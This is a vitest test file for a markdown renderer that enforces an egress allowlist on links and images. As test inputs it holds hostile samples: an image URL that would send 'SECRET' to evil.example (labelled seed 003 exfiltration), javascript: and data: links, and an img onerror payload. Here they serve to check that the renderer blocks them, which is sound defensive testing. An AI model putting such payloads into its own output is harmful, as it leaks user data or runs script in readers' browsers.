// renderMarkdown: raw HTML off, every link and image through the egress policy, hardened links, image modes.
import { describe, expect, it } from 'vitest';
import { renderMarkdown } from '../../../sinks/markdown/render.js';
import { defineEgressPolicy } from '../../../src/egress/policy.js';
import type { Finding } from '../../../src/vocabulary/finding.js';
import { HTML_LINK_REL } from '../../../src/purposes/html/profile.js';

const policy = defineEgressPolicy({ hosts: ['tickets.example.com', '*.cdn.example'] });
const anyHost = defineEgressPolicy();
const REL = `rel="${HTML_LINK_REL}"`;

/** The finding for one distinct URL blocked for a reason. */
function urlBlocked(reason: string): Finding {
  return { code: 'markdown.url_blocked', pointer: '', count: 1, action: 'cleaned', detail: { reason } };
}

function html(source: string, options: Partial<Parameters<typeof renderMarkdown>[1]> = {}): string {
  return renderMarkdown(source, { policy, ...options }).html;
}

describe('links', () => {
  it('keeps an allowed inline link with the hardened rel and nothing else', () => {
    expect(html('[ticket](https://tickets.example.com/t/42 "Title")')).toBe(
      `<p><a href="https://tickets.example.com/t/42" title="Title" ${REL}>ticket</a></p>\n`,
    );
  });

  it.each([
    ['inline', '[x](https://evil.example/?d=1)'],
    ['reference', '[x][r]\n\n[r]: https://evil.example/?d=1'],
    ['collapsed reference', '[r][]\n\n[r]: https://evil.example/?d=1'],
    ['autolink', '<https://evil.example/?d=1>'],
    ['linkified', 'go to https://evil.example/?d=1 now'],
    ['fuzzy linkified', 'go to www.evil.example now'],
    ['email autolink', '<someone@evil.example>'],
    ['javascript', '[x](javascript:alert(1))'],
    ['entity-encoded javascript', '[x](&#106;avascript:alert(1))'],
    ['data', '[x](data:text/html;base64,PHNjcmlwdD4=)'],
    ['relative', '[x](/admin/delete?all=1)'],
    ['protocol-relative', '[x](//evil.example/)'],
    ['empty', '[x]()'],
    ['credentials', '[x](https://user:pw@tickets.example.com/)'],
    ['other port', '[x](https://tickets.example.com:8443/)'],
  ])('renders a blocked %s link as text', (_, source) => {
    const out = html(source, { linkify: true });
    expect(out).not.toContain('<a');
    expect(out).toMatch(/^<p>/);
  });

  it('keeps allowed autolinked and linkified URLs; a scheme-less one means http, which this policy blocks', () => {
    const out = html('<https://tickets.example.com/a> https://img.cdn.example/b tickets.example.com/c', {
      linkify: true,
    });
    expect(out).toBe(
      `<p><a href="https://tickets.example.com/a" ${REL}>https://tickets.example.com/a</a> ` +
        `<a href="https://img.cdn.example/b" ${REL}>https://img.cdn.example/b</a> tickets.example.com/c</p>\n`,
    );
  });

  it('leaves bare URLs alone without linkify', () => {
    expect(html('see https://tickets.example.com/a')).toBe('<p>see https://tickets.example.com/a</p>\n');
  });

  it('keeps raw HTML as text', () => {
    expect(html('<a href="https://tickets.example.com/">x</a> <img src=x onerror=alert(1)>')).toBe(
      '<p>&lt;a href=&quot;https://tickets.example.com/&quot;&gt;x&lt;/a&gt; &lt;img src=x onerror=alert(1)&gt;</p>\n',
    );
  });
});

describe('images', () => {
  it('never emits an image that the policy blocks: seed 003 exfiltration stays literal text', () => {
    const { html: out, findings } = renderMarkdown('![](https://evil.example/?q=SECRET)', {
      policy,
      linkify: true,
    });
    expect(out).toBe('<p>![](https://evil.example/?q=SECRET)</p>\n');
    expect(findings).toEqual([urlBlocked('host_not_allowed')]);
  });

  it('never emits a blocked reference-style image or an image with an empty source', () => {
    expect(html('![a][r]\n\n[r]: https://evil.example/x.png')).not.toContain('<img');
    expect(html('![alt text]()')).toBe('<p>alt text</p>\n');
  });

  it('loads an image from an allowlisted host in the default mode', () => {
    expect(html('![logo](https://img.cdn.example/logo.png)')).toBe(
      '<p><img src="https://img.cdn.example/logo.png" alt="logo"></p>\n',
    );
  });

  it("keeps seed 003's exfiltration literal text under hosts: 'any' too: no link may carry its query", () => {
    const { html: out, findings } = renderMarkdown('![image](https://evil.example/logo.png?q=SECRET)', {
      policy: anyHost,
    });
    expect(out).toBe('<p>![image](https://evil.example/logo.png?q=SECRET)</p>\n');
    expect(findings).toEqual([urlBlocked('query_budget')]);
  });

  it("turns every image into a link under a policy with hosts: 'any'", () => {
    const { html: out, findings } = renderMarkdown('![logo *x*](https://img.example/logo.png)', {
      policy: anyHost,
    });
    expect(out).toBe(`<p><a href="https://img.example/logo.png" ${REL}>logo x</a></p>\n`);
    expect(findings).toEqual([
      {
        code: 'markdown.image_withheld',
        pointer: '',
        count: 1,
        action: 'cleaned',
        detail: { shownAs: 'link' },
      },
    ]);
  });

  it('shows allowed images as links or alt text when asked, and never nests a link', () => {
    const source = '![logo](https://img.cdn.example/logo.png)';
    expect(html(source, { images: 'link' })).toBe(
      `<p><a href="https://img.cdn.example/logo.png" ${REL}>logo</a></p>\n`,
    );
    expect(html(source, { images: 'alt' })).toBe('<p>logo</p>\n');
    expect(html(`[${source}](https://tickets.example.com/)`, { images: 'link' })).toBe(
      `<p><a href="https://tickets.example.com/" ${REL}>logo</a></p>\n`,
    );
  });
});

describe('findings and options', () => {
  it('counts distinct blocked URLs per reason, however often the parser looks at them', () => {
    const source =
      '[a](https://evil.example/) [[b](https://evil.example/)](https://evil.example/) [c](javascript:x)';
    const { findings } = renderMarkdown(source, { policy });
    expect(findings).toEqual([urlBlocked('host_not_allowed'), urlBlocked('scheme')]);
    expect(JSON.stringify(findings)).not.toContain('evil');
  });

  it('refuses bad options at configuration time', () => {
    expect(() => renderMarkdown('x', { policy: {} as never })).toThrow(TypeError);
    expect(() => renderMarkdown('x', { policy, images: 'always' as never })).toThrow(TypeError);
    expect(() => renderMarkdown('x', { policy, linkify: 'yes' as never })).toThrow(TypeError);
    expect(() => renderMarkdown('x', { policy, html: true } as never)).toThrow(
      /Unknown markdown sink option "html"/,
    );
  });

  it('never throws on hostile or malformed sources', () => {
    const sources = [
      '[x](<&#x25;test>)',
      '[x](%C3)',
      '[x](&#xD800;)',
      '\u0000\uD800[',
      '*'.repeat(5000),
      '['.repeat(5000),
    ];
    for (const source of sources) expect(typeof html(source, { linkify: true })).toBe('string');
  });
});
